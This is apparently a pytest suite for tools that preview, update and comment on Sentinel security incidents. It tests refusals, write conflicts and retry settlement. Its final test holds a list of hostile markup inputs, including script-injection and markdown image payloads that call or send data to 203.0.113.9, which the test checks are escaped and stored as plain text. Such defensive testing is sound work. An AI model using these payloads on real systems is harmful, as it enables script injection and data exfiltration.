"""The tools that change Sentinel, over both wires of the embedded workspace: what they do, refuse, and tell."""

from __future__ import annotations

import html
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import anyio
import anyio.lowlevel
import anyio.to_thread
import pytest
from action_estate import MAIN, Estate, estate
from sentinel_servers import connected

from sentinel_rag.contracts.query_results import QueryError, QueryErrorCode, note_code
from sentinel_rag.sentinel.service import SentinelService

pytestmark = pytest.mark.anyio


@pytest.fixture
def served(tmp_path: Path) -> Iterator[Estate]:
    with estate(tmp_path) as running:
        yield running


@pytest.fixture(scope="module")
def untouched(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Estate]:
    """For refusals, which must not change anything."""
    with estate(tmp_path_factory.mktemp("untouched")) as running:
        yield running
        assert running.kql('SecurityIncident | where ModifiedBy startswith "External" | count') == [[0]]


async def test_a_preview_tells_what_the_update_then_writes_and_writes_nothing(served: Estate) -> None:
    wanted = {"incident": str(MAIN), "status": "Closed", "classification": "TruePositive"}
    row = (await served.ask("preview_incident_change", **wanted)).rows[0]
    assert (row["status"], row["classification_reason"]) == ("Active", None), "the incident as it is"
    assert served.kql(f"SecurityIncident | where IncidentNumber == {MAIN} and Status == 'Closed' | count") == [[0]]
    said = (await served.ask("preview_incident_change", incident=str(MAIN), message="<b>seen</b>")).rows[0]["changes"]
    assert said == [{"field": "comment", "before": None, "after": "&lt;b>seen&lt;/b>"}]
    assert row["changes"] == (await served.ask("update_incident", **wanted)).rows[0]["changes"]
    again = (await served.ask("preview_incident_change", **wanted)).rows[0]
    assert again["changes"] == []
    reopened = (await served.ask("preview_incident_change", incident=str(MAIN), status="Active")).rows[0]["changes"]
    assert {"field": "classification", "before": "TruePositive", "after": None} in reopened  # type: ignore[operator]


async def test_an_incident_is_closed_and_the_answer_tells_before_and_after(served: Estate) -> None:
    result = await served.ask(
        "update_incident",
        incident=f"#{MAIN}",
        status="Closed",
        severity="Medium",
        classification="TruePositive",
        classification_comment="Contained & <cleaned>",
        owner="li.na@woodgrove.example",
    )
    (row,) = result.rows
    assert set(row) == {column.name for column in result.columns}
    assert row["number"] == MAIN
    assert row["changes"] == [
        {"field": "status", "before": "Active", "after": "Closed"},
        {"field": "severity", "before": "High", "after": "Medium"},
        {
            "field": "owner",
            "before": "Åsa Öberg <asa.oberg@woodgrove.example>",
            "after": "李 娜 <li.na@woodgrove.example>",
        },
        {"field": "classification", "before": None, "after": "TruePositive"},
        {"field": "classification_reason", "before": None, "after": "SuspiciousActivity"},
        {"field": "classification_comment", "before": None, "after": "Contained & &lt;cleaned>"},
    ]
    assert result.summary["matched_by"] == "incident_number"
    assert result.summary["changed"] == [change["field"] for change in row["changes"]]  # type: ignore[union-attr, index, call-overload]
    assert result.coverage.workspace == "lab"
    assert note_code(result.notes[0]) == "change_made"
    assert result.notes[0] == (
        f"Incident {MAIN}: status Active → Closed, severity High → Medium, owner changed, classification none → "
        "TruePositive, classification_reason none → SuspiciousActivity, classification_comment changed."
    )
    detail = (await served.ask("get_incident_detail", incident=str(MAIN))).rows[0]
    assert (detail["status"], detail["severity"], detail["owner"]) == ("Closed", "Medium", "李 娜")
    assert detail["closed_time"] is not None
    listed = (await served.ask("query_incidents", status="Closed", owner="li.na")).rows
    assert [incident["number"] for incident in listed] == [MAIN]


async def test_what_an_update_leaves_out_stays(served: Estate) -> None:
    columns = ("Title", "Description", "Status", "tostring(Owner)", "tostring(Labels)", "tostring(AlertIds)",
               "tostring(Comments)", "FirstActivityTime", "CreatedTime", "ProviderIncidentId")  # fmt: skip
    before = served.newest(*columns)
    await served.ask("update_incident", incident=str(MAIN), severity="Low")
    assert served.newest(*columns) == before
    assert served.newest("Severity") == ["Low"]


async def test_an_incident_that_is_so_already_is_not_written(served: Estate) -> None:
    versions = served.versions()
    result = await served.ask(
        "update_incident", incident=str(MAIN), severity="High", status="Active", owner="ASA.OBERG@woodgrove.example"
    )
    assert result.rows[0]["changes"] == []
    assert "nothing was written" in result.notes[0]
    assert note_code(result.notes[0]) == "nothing_to_change"
    assert served.versions() == versions


async def test_reopening_takes_the_classification_away(served: Estate) -> None:
    await served.ask("update_incident", incident=str(MAIN), status="Closed", classification="Undetermined")
    result = await served.ask("update_incident", incident=str(MAIN), status="Active")
    assert result.rows[0]["changes"] == [
        {"field": "status", "before": "Closed", "after": "Active"},
        {"field": "classification", "before": "Undetermined", "after": None},
    ]
    assert served.newest("Status", "Classification") == ["Active", ""]


async def test_a_closed_incident_is_classified_otherwise_and_keeps_the_reason_that_was_given(served: Estate) -> None:
    await served.ask(
        "update_incident",
        incident=str(MAIN),
        status="Closed",
        classification="FalsePositive",
        classification_reason="InaccurateData",
    )
    same = await served.ask("update_incident", incident=str(MAIN), status="Closed", classification="FalsePositive")
    assert same.rows[0]["changes"] == []
    other = await served.ask("update_incident", incident=str(MAIN), classification="BenignPositive")
    assert [change["after"] for change in other.rows[0]["changes"]] == ["BenignPositive", "SuspiciousButExpected"]  # type: ignore[union-attr, index, call-overload]


async def test_owners_by_object_id_and_none(served: Estate) -> None:
    (object_id,) = served.kql(
        'IdentityInfo | where AccountUPN == "zoe.mueller@woodgrove.example" | distinct AccountObjectId'
    )[0]
    known = await served.ask("update_incident", incident=str(MAIN), owner=object_id.upper())
    assert known.rows[0]["owner"] == "Zoë Müller <zoe.mueller@woodgrove.example>"
    nobody = await served.ask("update_incident", incident=str(MAIN), owner="Unassigned")
    assert nobody.rows[0]["owner"] is None
    assert [
        row["number"]
        for row in (await served.ask("query_incidents", owner="unassigned", limit=100)).rows
        if row["number"] == MAIN
    ]
    stranger = await served.ask("update_incident", incident=str(MAIN), owner="o'neill@elsewhere.example")
    assert stranger.rows[0]["owner"] == "o'neill@elsewhere.example"


async def test_a_comment_is_added_and_seen_by_every_reader(served: Estate) -> None:
    result = await served.ask(
        "add_incident_comment", incident=str(MAIN), message="  Isolated srv-file-01.\r\n- näch|ste  "
    )
    (row,) = result.rows
    assert set(row) == {column.name for column in result.columns}
    assert (row["number"], row["message"], row["comment_count"]) == (MAIN, "Isolated srv-file-01.\n- näch|ste", 3)
    assert row["author"] == "External application - Sentinel RAG"
    detail = (await served.ask("get_incident_detail", incident=str(MAIN))).rows[0]
    newest = detail["comments"][-1]  # type: ignore[index]
    assert newest == {"time": row["time"], "author": row["author"], "message": row["message"]}
    assert served.newest("toint(AdditionalData.commentsCount)", "Severity") == [3, "High"]
    again = await served.ask("add_incident_comment", incident=str(MAIN), message="Isolated srv-file-01.\n- näch|ste")
    assert again.rows[0]["comment_count"] == 4  # said twice by the user, so it is there twice


@pytest.mark.parametrize("reference", ["guid", "url", "defender"])
async def test_an_incident_is_named_as_get_incident_detail_takes_it(served: Estate, reference: str) -> None:
    name, url, defender = served.newest("IncidentName", "IncidentUrl", "ProviderIncidentId")
    text = {"guid": name, "url": url, "defender": f"https://security.microsoft.com/incidents/{defender}?tid=x"}[
        reference
    ]
    result = await served.ask("update_incident", incident=text, severity="Low")
    assert result.rows[0]["number"] == MAIN


REFUSED: list[tuple[dict[str, Any], str, str]] = [
    ({"incident": "55"}, "status", "needs something to change"),
    ({"incident": "55", "status": "", "owner": None}, "status", "needs something to change"),
    ({"status": "Active"}, "incident", "needs incident"),
    ({"incident": "124", "status": "Closed"}, "classification", "needs a classification"),
    ({"incident": "124", "status": "closed"}, "status", "Did you mean 'Closed'?"),
    ({"incident": "124", "status": "Resolved"}, "status", "'Resolved'"),
    ({"incident": "124", "severity": "Critical"}, "severity", "'Critical'"),
    ({"incident": "124", "status": "Active", "classification": "TruePositive"}, "classification", "no classification"),
    ({"incident": "124", "classification": "TruePositive"}, "classification", "only a closed one"),
    ({"incident": "124", "classification_reason": "InaccurateData"}, "classification_reason", "needs a classification"),
    ({"incident": "124", "classification_comment": "x"}, "classification_comment", "needs a classification"),
    (
        {
            "incident": "124",
            "status": "Closed",
            "classification": "TruePositive",
            "classification_reason": "InaccurateData",
        },
        "classification_reason",
        "takes SuspiciousActivity",
    ),
    (
        {
            "incident": "124",
            "status": "Closed",
            "classification": "Undetermined",
            "classification_reason": "InaccurateData",
        },
        "classification_reason",
        "takes no reason",
    ),
    ({"incident": "124", "owner": "Åsa Öberg"}, "owner", "names no user"),
    ({"incident": "124", "owner": "a@b"}, "owner", "names no user"),
    ({"incident": "124", "owner": "x <a@b.example>"}, "owner", "names no user"),
    ({"incident": "124", "owner": "a" * 255 + "@b.example"}, "owner", "254 characters"),
    ({"incident": "124", "title": "other"}, "title", "no argument 'title'"),
    ({"incident": "124", "status": ["Closed"]}, "status", "text"),
    ({"incident": "that one", "status": "Active"}, "incident", "no reference"),
    ({"incident": "9999", "status": "Active"}, "incident", "No incident has"),
    ({"incident": "99999999-0000-4000-8000-000000000000", "status": "Active"}, "incident", "No incident and no alert"),
]


@pytest.mark.requirement("TOOL-2")
@pytest.mark.parametrize(("arguments", "field", "words"), REFUSED, ids=str)
async def test_an_update_that_cannot_be_is_refused_with_the_field(
    untouched: Estate, arguments: dict[str, Any], field: str, words: str
) -> None:
    error = await untouched.refusal("update_incident", **arguments)
    assert (error.code, error.field) == (QueryErrorCode.INVALID_ARGUMENT, field)
    assert words in error.message
    assert error.next_step
    assert not error.retry_possible


@pytest.mark.requirement("TOOL-2")
@pytest.mark.parametrize(
    ("message", "words"),
    [
        ("", "needs message"),
        (" \n ", "needs message"),
        ("x" * 30_001, "30000 characters"),
        ("<" * 10_000, "40000 characters long once it is escaped"),
        ("a\x1b[2Jb", "U+001B at position 1"),
        ("a\u202eb", "U+202E"),
        ("a\x00b", "U+0000"),
        ("a\ud800", "surrogate"),
        (5, "text"),
    ],
    ids=lambda value: repr(value)[:30],
)
async def test_a_comment_that_cannot_be_is_refused(untouched: Estate, message: Any, words: str) -> None:
    error = await untouched.refusal("add_incident_comment", incident=str(MAIN), message=message)
    assert (error.code, error.field) == (QueryErrorCode.INVALID_ARGUMENT, "message")
    assert words in error.message


async def test_an_ambiguous_number_changes_nothing_and_names_the_candidates(untouched: Estate) -> None:
    rows = untouched.kql(
        "SecurityIncident | summarize arg_max(TimeGenerated, *) by IncidentNumber | project IncidentNumber, "
        "ProviderIncidentId, IncidentName"
    )
    by_number = {str(number): name for number, _, name in rows}
    number, other = next(
        (str(number), name) for number, _, name in rows for _, defender, _ in rows if str(number) == defender
    )
    for tool, more in (("update_incident", {"severity": "Low"}), ("add_incident_comment", {"message": "x"})):
        error = await untouched.refusal(tool, incident=number, **more)
        assert (error.code, error.field) == (QueryErrorCode.INVALID_ARGUMENT, "incident")
        assert "may mean 2 incidents" in error.message
        assert by_number[number] in error.allowed
        assert other in error.allowed
        assert len(error.allowed) == 2


@pytest.mark.requirement("DATA-6")
@pytest.mark.parametrize("status", [409, 412])
async def test_a_conflict_is_an_error_and_nothing_is_overwritten(served: Estate, status: int) -> None:
    versions = served.versions()
    served.faults({"kind": "conflict", "method": "PUT", "status": status})
    error = await served.refusal("update_incident", incident=str(MAIN), severity="Low")
    assert (error.code, error.field, error.retry_possible) == (QueryErrorCode.CONFLICT, "incident", False)
    assert (
        "in the meantime: none of the fields that update_incident changes. Nothing of this update was written."
        in error.message
    )
    assert served.requests()["rest PUT"] == 1
    assert served.versions() == versions
    assert (await served.ask("update_incident", incident=str(MAIN), severity="Low")).rows[0]["severity"] == "Low"


async def test_a_conflict_tells_who_changed_what(served: Estate) -> None:
    """Another analyst writes while our PUT is on its way: it has been counted, and waits."""
    served.faults({"kind": "slow", "method": "PUT", "delay_s": 2})
    errors: list[QueryError] = []

    async def ours() -> None:
        errors.append(await served.refusal("update_incident", incident=str(MAIN), status="New"))

    async with anyio.create_task_group() as group:
        group.start_soon(ours)
        while (await anyio.to_thread.run_sync(served.requests)).get("rest PUT") != 1:
            await anyio.lowlevel.checkpoint()
        theirs = await served.ask("update_incident", incident=str(MAIN), severity="Low", owner="unassigned")
        assert theirs.rows[0]["severity"] == "Low"
    (error,) = errors
    assert error.code is QueryErrorCode.CONFLICT
    assert error.message == (
        f"Incident {MAIN} was changed by External application - Sentinel RAG in the meantime: severity High → Low, "
        "owner changed. Nothing of this update was written."
    )
    assert served.newest("Status", "Severity") == ["Active", "Low"]


@pytest.mark.requirement("DATA-6")
@pytest.mark.parametrize(
    ("tool", "more"), [("update_incident", {"severity": "Low"}), ("add_incident_comment", {"message": "once"})]
)
async def test_a_write_whose_answer_is_lost_is_found_done_and_not_done_twice(
    served: Estate, tool: str, more: dict[str, str]
) -> None:
    versions = served.versions()
    served.faults({"kind": "lost_answer", "method": "PUT"})
    result = await served.ask(tool, incident=str(MAIN), **more)
    assert result.rows[0]["number"] == MAIN
    assert served.versions() == versions + 1
    comments = served.newest("array_length(Comments)")[0]
    assert comments == (3 if tool == "add_incident_comment" else 2)


@pytest.mark.requirement("DATA-6")
@pytest.mark.parametrize("kind", ["server_error", "timeout", "html", "empty", "no_content"])
@pytest.mark.parametrize(
    ("tool", "more"), [("update_incident", {"severity": "Low"}), ("add_incident_comment", {"message": "once"})]
)
async def test_a_write_that_failed_unclearly_is_settled_by_reading(
    served: Estate, tool: str, more: dict[str, str], kind: str
) -> None:
    versions = served.versions()
    served.faults({"kind": kind, "method": "PUT"})
    await served.ask(tool, incident=str(MAIN), **more)
    assert served.requests()["rest PUT"] == 2
    assert served.versions() == versions + 1
    served.faults({"kind": kind, "method": "PUT", "times": 2})
    more = {"severity": "Medium"} if tool == "update_incident" else {"message": "twice"}
    error = await served.refusal(tool, incident=str(MAIN), **more)
    assert (error.code, error.retry_possible) == (QueryErrorCode.OUTCOME_UNKNOWN, False)
    assert "Look at the incident" in error.next_step
    assert served.requests()["rest PUT"] == 2
    assert served.versions() == versions + 1


@pytest.mark.requirement("DATA-6")
async def test_a_write_that_cannot_be_settled_is_told_as_unknown(served: Estate) -> None:
    served.faults(
        {"kind": "lost_answer", "method": "PUT"}, {"kind": "server_error", "method": "GET", "skip": 1, "times": 9}
    )
    error = await served.refusal("update_incident", incident=str(MAIN), severity="Low")
    assert error.code is QueryErrorCode.OUTCOME_UNKNOWN
    assert served.requests()["rest PUT"] == 1
    assert served.newest("Severity") == ["Low"]


@pytest.mark.requirement("DATA-6")
async def test_a_throttled_write_was_not_taken_and_is_repeated(served: Estate) -> None:
    versions = served.versions()
    served.faults({"kind": "throttled", "method": "PUT", "times": 3, "retry_after_s": None})
    await served.ask("update_incident", incident=str(MAIN), severity="Low")
    assert served.requests()["rest PUT"] == 4
    assert served.versions() == versions + 1


async def test_a_full_incident_takes_no_further_comment(served: Estate, tmp_path: Path) -> None:
    version = {
        "TimeGenerated": "2025-03-13T00:00:00Z",
        "IncidentName": served.newest("IncidentName")[0],
        "IncidentNumber": MAIN,
        "Title": "Full",
        "Severity": "High",
        "Status": "Active",
        "Comments": [{"message": str(number), "createdTimeUtc": "2025-03-01T00:00:00Z"} for number in range(100)],
    }
    export = tmp_path / "export.jsonl"
    export.write_text(json.dumps(version) + "\n")
    served.admin("POST", "import", {"path": str(export), "table": "SecurityIncident"})
    error = await served.refusal("add_incident_comment", incident=str(MAIN), message="one more")
    assert error.code is QueryErrorCode.QUERY_REJECTED
    assert "100 comments" in error.message


async def test_without_a_resource_id_a_workspace_is_read_only(untouched: Estate) -> None:
    async with connected(untouched.url) as workspace:
        service = SentinelService({"lab": workspace})
        error = await service.call("update_incident", {"incident": str(MAIN), "severity": "Low"})
        assert isinstance(error, QueryError)
        assert error.code is QueryErrorCode.WORKSPACE_NOT_FOUND
        assert "SENTINEL_WORKSPACE_RESOURCE_ID" in error.next_step
        assert (await service.call("get_incident_detail", {"incident": str(MAIN)})).to_dict()["kind"] == "result"


HOSTILE = [
    "<img src=http://203.0.113.9/p.png onerror=alert(1)>",
    "![status](http://203.0.113.9/s?q=secret)",
    "[click](javascript:alert(1))",
    "[click] (http://203.0.113.9)",
    "![a][b]\n\n[b]: http://203.0.113.9/x.png",
    "<http://203.0.113.9/>",
    "&lt;script&gt; &#60;img&#62; &copy &amp;",
    "</textarea><script>fetch('http://203.0.113.9')</script>",
]


@pytest.mark.parametrize("text", HOSTILE)
async def test_markup_in_a_comment_is_stored_as_the_text_that_it_is(served: Estate, text: str) -> None:
    result = await served.ask("add_incident_comment", incident=str(MAIN), message=text)
    stored = served.newest("tostring(Comments[2].message)")[0]
    assert stored == result.rows[0]["message"]
    assert html.unescape(stored) == text
    assert "<" not in stored
    assert "](" not in stored.replace(" ", "")
    assert "][" not in stored
    assert "]:" not in stored
    assert any("plain text" in note for note in result.notes)
